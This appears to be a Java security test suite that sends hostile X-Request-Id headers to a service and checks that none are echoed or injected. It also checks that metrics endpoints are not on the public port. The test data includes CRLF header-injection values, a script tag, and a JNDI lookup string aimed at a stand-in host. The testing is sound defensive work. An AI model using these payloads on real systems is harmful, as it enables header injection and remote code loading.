package io.montage.attack.hostile;

import io.montage.attack.Fixtures;
import io.montage.attack.Keys;
import io.montage.attack.http.Reply;

import java.util.function.Predicate;
import java.util.regex.Pattern;

import static io.montage.attack.probe.Expect.any;
import static io.montage.attack.probe.Expect.problem;
import static io.montage.attack.probe.Expect.status;

/**
 * Hostile X-Request-Id values, sent raw (ADR 0026): a huge one, control characters, a CRLF that tries to add a
 * header to the answer, HTML, two of them. The answer's id is always a safe one (the caller's plain id, else a
 * fresh UUID), never the hostile bytes; no header is injected. And the metrics are not on the public port.
 */
final class RequestIdProbes extends Catalogue {

    private static final Pattern SAFE = Pattern.compile("[A-Za-z0-9._:/+=-]{1,128}");
    private static final Pattern UUID = Pattern.compile("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}");

    RequestIdProbes(Keys keys, Fixtures fixtures) {
        super("request-id", keys, fixtures);
    }

    /** The answer's X-Request-Id, when the framework answered, is a fresh UUID, and no Set-Cookie came back. */
    private static Predicate<Reply> replaced() {
        return reply -> reply.header("Set-Cookie").isEmpty() && reply.header("X-Request-Id")
                .map(id -> UUID.matcher(id).matches()).orElse(reply.status() >= 400);
    }

    /**
     * For a line break inside the value: the server reads what precedes it as the id (a plain "a") and the rest as a
     * header line of the request; the answer's id must be a safe one and carry none of the rest, nor gain a header.
     */
    private static Predicate<Reply> notInjected(String header) {
        return reply -> reply.header(header).isEmpty() && reply.header("X-Request-Id")
                .map(id -> SAFE.matcher(id).matches()).orElse(reply.status() >= 400);
    }

    @Override
    void build() {
        add(probe("a plain X-Request-Id is echoed").raw().get(MODELS).header("X-Request-Id", "attack-plain-1")
                .expect(status(200).and("echoed", reply -> reply.header("X-Request-Id")
                        .filter("attack-plain-1"::equals).isPresent())));
        add(probe("no X-Request-Id: one is generated").raw().get(MODELS)
                .expect(status(200).and("a fresh UUID", replaced())));
        add(probe("a 100 KB X-Request-Id").raw().get(MODELS).header("X-Request-Id", "r".repeat(100_000))
                .expect(any().and("not echoed", replaced())));
        add(probe("a 129-character X-Request-Id").raw().get(MODELS).header("X-Request-Id", "r".repeat(129))
                .expect(status(200).and("replaced", replaced())));
        add(probe("X-Request-Id with CRLF and a Set-Cookie").raw().get(MODELS)
                .header("X-Request-Id", "a\r\nSet-Cookie: session=stolen")
                .expect(any().and("no injection", notInjected("Set-Cookie"))));
        add(probe("X-Request-Id with a bare LF").raw().get(MODELS)
                .header("X-Request-Id", "a\nX-Injected: 1").expect(any().and("no injection",
                        notInjected("X-Injected"))));
        for (String hostile : new String[]{"a\u0000b", "a\u0001b", "a\u007fb", "a\tb", "caf\u00e9", "<script>x</script>",
                "\"quoted\"", "a b", "${jndi:ldap://evil.example/a}", "%0d%0aSet-Cookie:x=1"}) {
            add(probe("hostile X-Request-Id " + hostile.codePoints().limit(12)
                    .mapToObj(c -> c < 0x20 || c == 0x7f ? "\\u%04x".formatted(c) : Character.toString(c))
                    .reduce("", String::concat)).raw().get(MODELS).header("X-Request-Id", hostile)
                    .expect(any().and("replaced", replaced())));
        }
        add(probe("two X-Request-Id headers").raw().get(MODELS).header("X-Request-Id", "first-id")
                .header("X-Request-Id", "second-id").expect(status(200).and("one safe id",
                        reply -> reply.header("X-Request-Id").map(id -> SAFE.matcher(id).matches()).orElse(false))));
        add(probe("a problem carries the request id").raw().get(JOBS + "/" + java.util.UUID.randomUUID())
                .header("X-Request-Id", "attack-problem-1").expect(problem(404, "job_not_found")
                        .and("request_id in the problem", reply -> reply.text()
                                .contains("\"request_id\":\"attack-problem-1\""))));
        add(probe("no metrics on the public port: /prometheus").key(null).raw().get("/prometheus")
                .expect(problem(404, "not_found").and("no series", reply -> !reply.text().contains("jvm_"))));
        add(probe("no metrics on the public port: /metrics").key(null).raw().get("/metrics")
                .expect(problem(404, "not_found")));
        add(probe("no metrics on the public port, with a key: /prometheus").raw().get("/prometheus")
                .expect(problem(404, "not_found")));
    }
}
